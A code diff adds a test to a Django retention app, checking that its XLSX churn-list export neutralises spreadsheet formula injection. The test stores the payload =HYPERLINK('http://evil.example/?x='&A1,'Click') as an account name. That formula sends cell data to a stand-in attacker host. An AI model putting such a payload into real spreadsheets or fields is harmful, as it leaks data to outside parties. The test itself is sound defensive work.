@@ -11,6 +11,7 @@ from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
 
+from accounts.models import Account
 from retention import services
 from retention.models import CampaignTarget, LossRecord, Notification, Refusal, WinBackCampaign
 from tests.factories import AccountFactory
@@ -106,6 +107,19 @@ def test_the_list_exports_the_same_rows_to_xlsx(client, kam, drifting):
     rows = list(sheet.values)
     assert rows[0][:4] == ("account", "external_id", "status", "churn_score")
     assert sorted(r[0] for r in rows[1:]) == sorted([drifting["lost"].name, "Slow Buyer"])
+
+
+def test_an_account_name_that_looks_like_a_formula_is_text_in_the_xlsx(client, kam, drifting):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    Account.objects.filter(pk=drifting["at_risk"].pk).update(name=evil)
+    client.force_login(kam)
+
+    sheet = load_workbook(
+        BytesIO(client.get(reverse("retention:churn-list") + "?format=xlsx").content)
+    ).active
+
+    assert "'" + evil in [row[0] for row in sheet.values]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
 
 
 def test_a_win_back_campaign_from_picked_accounts_records_outcomes_and_recovered_revenue(
